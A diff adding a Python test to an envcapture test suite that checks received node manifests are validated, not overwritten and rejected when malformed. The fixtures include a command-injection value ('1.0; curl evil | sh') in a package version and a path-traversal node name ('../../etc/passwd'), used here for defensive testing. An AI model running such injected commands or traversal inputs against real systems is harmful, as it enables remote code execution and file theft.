@@ -49,3 +49,25 @@ def test_a_cut_or_corrupted_frame_is_a_failure_not_a_manifest():
 def test_a_hostile_node_name_does_not_name_the_file():
     received, _, _ = collect_streams(labeled(0, frame("../../etc/passwd", b"{}")), "")
     assert received[0].node == "task-0"
+
+
+def test_each_received_manifest_is_validated_before_it_is_written(tmp_path):
+    from pathlib import Path
+
+    from envcapture.compare.many import ManifestSet
+    from envcapture.gather import Received, write_manifests
+
+    good = (Path(__file__).resolve().parents[1] / "fixtures" / "compare" / "node-1.json").read_bytes()
+    spoiled = json.loads(good)
+    spoiled["python_packages"][0]["version"] = "1.0; curl evil | sh"
+    (tmp_path / "n3.json").write_text("my notes\n")
+    received = [Received(0, "n1", good), Received(1, "n2", json.dumps(spoiled).encode()),
+                Received(2, "n3", good), Received(3, "n4", b"{not json")]
+    paths, failures = write_manifests(tmp_path, received, ManifestSet())
+    assert [p.name for p in paths] == ["n1.json"] and (tmp_path / "n1.json").read_bytes() == good
+    lines = [f.line() for f in failures]
+    assert lines[0].startswith("n2 (task 1): its manifest: invalid manifest (1 problem(s)); first: python_packages[0]")
+    assert lines[1] == f"n3 (task 2): {tmp_path / 'n3.json'} exists and is not an envcapture manifest: not overwritten"
+    assert lines[2].startswith("n4 (task 3): its manifest: not valid JSON")
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["n1.json", "n3.json"]
+    assert (tmp_path / "n3.json").read_text() == "my notes\n"
